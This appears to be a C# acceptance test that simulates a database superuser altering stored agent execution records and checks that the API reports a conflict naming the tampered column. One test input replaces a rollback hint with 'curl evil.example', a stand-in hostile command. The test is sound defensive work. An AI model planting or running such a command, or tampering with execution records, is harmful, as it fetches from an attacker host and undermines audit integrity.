using System.Net;
using static Platform.Testing.PlanCommand;

namespace Platform.AcceptanceTests.Plans;

/// <summary>
/// A superuser of the business database edits what stands beside an execution's lines; the column is named, and no hint of it is told.
/// </summary>
[Collection(nameof(SharedStackOne))]
public sealed class When_an_execution_s_beginning_is_altered(SharedStack shared) : SharedStackTest(shared)
{
    [Theory]
    [InlineData("plan", "plan = convert_to(replace(convert_from(plan, 'UTF8'), 'Restore the backup', 'curl evil.example'), 'UTF8')")]
    [InlineData("agent_id", "agent_id = 'somebody else'")]
    [InlineData("begun_at", "begun_at = begun_at - interval '1 day'")]
    [InlineData("trace_id", "trace_id = 'another'")]
    [InlineData("trigger", "trigger = 'y'")]
    [Trait("Requirement", "R028")]
    [Trait("Requirement", "G5")]
    public async Task Should_be_told_with_the_column_and_without_its_hints(string column, string change)
    {
        var plan = Live(Step("create", "object.create", new { id = Command.NewName("SRV"), type = "server" }, hint: new { description = "Restore the backup", actions = new[] { "pg_restore" } }));
        Assert.Equal("COMPLETED", (await Agent.ExecuteAsync(plan)).Status);
        await Stack.CaughtUpAsync();
        Assert.Contains("Restore the backup", (await AskAsync(plan, "rollback")).Body, StringComparison.Ordinal);

        await Stack.AttackAsync("execution.begun", $"UPDATE execution.begun SET {change} WHERE execution_id = '{plan.CommandId}'");

        foreach (var question in new[] { "rollback", "record" })
        {
            var (status, body) = await AskAsync(plan, question);
            Assert.Equal(HttpStatusCode.Conflict, status);
            Assert.DoesNotContain("evil", body, StringComparison.Ordinal);
            Assert.Contains(column, body, StringComparison.Ordinal);
        }
    }

    private async Task<(HttpStatusCode Status, string Body)> AskAsync(PlanCommand plan, string question)
    {
        using var answer = await Stack.Runner.Http.GetAsync(new Uri($"/executions/{plan.CommandId}/{question}", UriKind.Relative));
        return (answer.StatusCode, await answer.Content.ReadAsStringAsync());
    }
}
